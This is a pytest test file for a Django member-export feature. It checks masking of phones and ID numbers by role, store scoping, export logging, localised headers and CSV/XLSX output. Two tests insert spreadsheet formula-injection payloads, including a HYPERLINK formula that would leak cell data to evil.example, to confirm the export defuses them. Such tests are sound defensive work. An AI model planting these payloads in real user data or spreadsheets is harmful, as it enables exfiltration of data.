"""Member export: masking per role, store scope and filters, headers in the user's language, the log."""

import datetime as dt

import openpyxl
import pytest
from django.core.exceptions import PermissionDenied
from django.utils import translation

from membercare.core.idnumber import id_check_char
from membercare.members.exports import export_headers, export_members
from membercare.members.models import ExportLog
from membercare.members.services import set_member_tags
from tests.factories import MemberFactory

ID_NUMBER = "11010519850321002" + id_check_char("11010519850321002")


@pytest.fixture(autouse=True)
def _fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def members(store, other_store):
    wang = MemberFactory(name="王小明", phone="13812345678", home_store=store, id_number=ID_NUMBER,
                         birthday=dt.date(1985, 3, 21))
    li = MemberFactory(name="李晓红", phone="13900001111", home_store=store, consent_sms=True)
    far = MemberFactory(name="张伟", phone="13700002222", home_store=other_store)
    set_member_tags(wang, ["喜欢喝茶"])
    return wang, li, far


def read(out):
    rows = list(openpyxl.load_workbook(out).active.iter_rows(values_only=True))
    header = list(rows[0])
    return header, [dict(zip(header, row, strict=True)) for row in rows[1:]]


def test_manager_export_masks_phones_and_id_numbers_and_stays_in_their_stores(members, manager):
    with translation.override("en"):
        out, count = export_members(manager)
        header, rows = read(out)
    assert count == 2
    by_name = {r["Name"]: r for r in rows}
    assert set(by_name) == {"王小明", "李晓红"}  # 张伟 is in another store
    assert by_name["王小明"]["Mobile phone"] == "138****5678"
    assert by_name["王小明"]["ID number"] == "110***********" + ID_NUMBER[-4:]
    assert by_name["王小明"]["Tags"] == "喜欢喝茶"
    assert by_name["王小明"]["Store code"] == "SH01"
    assert by_name["王小明"]["Birthday"].date() == dt.date(1985, 3, 21)
    assert by_name["李晓红"]["Marketing SMS"] == "Yes" and by_name["王小明"]["Marketing SMS"] == "No"
    assert not any("13812345678" in str(v) for r in rows for v in r.values())
    assert not any(ID_NUMBER in str(v) for r in rows for v in r.values())


def test_specialist_sees_full_phones_but_never_full_id_numbers(members, specialist):
    with translation.override("en"):
        out, count = export_members(specialist)
        _header, rows = read(out)
    assert count == 3  # chain-wide
    by_name = {r["Name"]: r for r in rows}
    assert by_name["王小明"]["Mobile phone"] == "13812345678"
    assert by_name["王小明"]["ID number"] != ID_NUMBER and by_name["王小明"]["ID number"].endswith(ID_NUMBER[-4:])


def test_every_export_is_logged(members, manager, specialist):
    export_members(manager, store_id=members[0].home_store_id, tag="喜欢喝茶", query="王")
    export_members(specialist)
    first, second = ExportLog.objects.order_by("pk")
    assert first.exported_by == manager and first.kind == "members" and first.exported_at is not None
    assert first.filters == {"store": members[0].home_store_id, "tag": "喜欢喝茶", "q": "王", "format": "xlsx"}
    assert first.row_count == 1 and first.full_data is False
    assert second.exported_by == specialist and second.row_count == 3 and second.full_data is True


def test_filters_are_the_member_lists(members, specialist, other_store):
    _header, rows = read(export_members(specialist, store_id=other_store.pk)[0])
    assert [r[export_headers()[1]] for r in rows] == ["张伟"]
    _out, count = export_members(specialist, tag="喜欢喝茶")
    assert count == 1
    _out, count = export_members(specialist, query="1111")
    assert count == 1


def test_clerk_may_not_export(members, clerk):
    with pytest.raises(PermissionDenied):
        export_members(clerk)
    assert ExportLog.objects.count() == 0


def test_headers_are_in_the_users_language(members, manager):
    with translation.override("en"):
        header, _rows = read(export_members(manager)[0])
        assert header == export_headers()
    assert header[:4] == ["Member number", "Name", "Mobile phone", "Gender"]
    with translation.override("zh-hans"):
        header_zh, _rows = read(export_members(manager)[0])
        assert header_zh == export_headers()
    assert header_zh[:4] == ["会员编号", "姓名", "手机号", "性别"]  # a person's name: 姓名, not 名称 (issue 18)


def test_empty_export_has_the_header_row(specialist):
    out, count = export_members(specialist, tag="nobody")
    header, rows = read(out)
    assert count == 0 and rows == [] and header == export_headers()


def test_text_a_member_typed_never_becomes_a_formula_in_the_export(members, specialist):
    from membercare.members.models import Member

    wang = members[0]
    Member.objects.filter(pk=wang.pk).update(occupation='=HYPERLINK("http://evil.example/?"&D2,"x")',
                                             address="@SUM(A1)")
    out, _count = export_members(specialist)
    workbook = openpyxl.load_workbook(out)
    assert not [c.coordinate for row in workbook.active.iter_rows() for c in row if c.data_type == "f"]
    values = {v for row in workbook.active.iter_rows(values_only=True) for v in row}
    assert '=HYPERLINK("http://evil.example/?"&D2,"x")' in values and "@SUM(A1)" in values


def test_csv_export_has_the_same_rows_as_the_xlsx_with_text_kept_as_text(members, specialist):
    import csv
    import io

    wang = members[0]
    wang.occupation = "=HYPERLINK(\"http://evil.example\")"
    wang.save()
    _header, xlsx_rows = read(export_members(specialist)[0])
    out, count = export_members(specialist, file_format="csv")
    table = list(csv.reader(io.StringIO(out.read().decode("utf-8-sig"), newline="")))
    assert count == 3 and table[0] == export_headers()
    csv_rows = [dict(zip(table[0], row, strict=True)) for row in table[1:]]

    def text(value):
        if value is None:
            return ""
        if isinstance(value, dt.datetime):
            return value.isoformat(sep=" ", timespec="seconds").removesuffix(" 00:00:00")
        return str(value)

    for xr, cr in zip(xlsx_rows, csv_rows, strict=True):
        for key, value in xr.items():
            expected = text(value)
            if expected.startswith("="):
                expected = "'" + expected  # a spreadsheet opens the CSV: never a formula
            if isinstance(value, float):
                expected = f"{value:.2f}" if "." in cr[key] else str(int(value))
            assert cr[key] == expected, key
    assert ExportLog.objects.filter(filters__format="csv").count() == 1


@pytest.mark.django_db(transaction=True)
def test_a_long_export_reads_ahead_in_chunks_and_loses_no_member(store, specialist, monkeypatch):
    from membercare.members import exports

    made = [MemberFactory(home_store=store, name=f"会员{i}") for i in range(23)]
    for i, m in enumerate(made):
        if i % 3 == 0:
            set_member_tags(m, ["乙标签", "甲标签"])
    monkeypatch.setattr(exports._member_rows, "__kwdefaults__", {"chunk": 4})  # 6 chunks
    with translation.override("en"):
        _header, rows = read(export_members(specialist)[0])
    assert [r["Member number"] for r in rows] == [m.member_no for m in made]  # once each, in order
    assert [r["Tags"] for r in rows] == [("乙标签, 甲标签" if i % 3 == 0 else None) for i in range(23)]  # by name
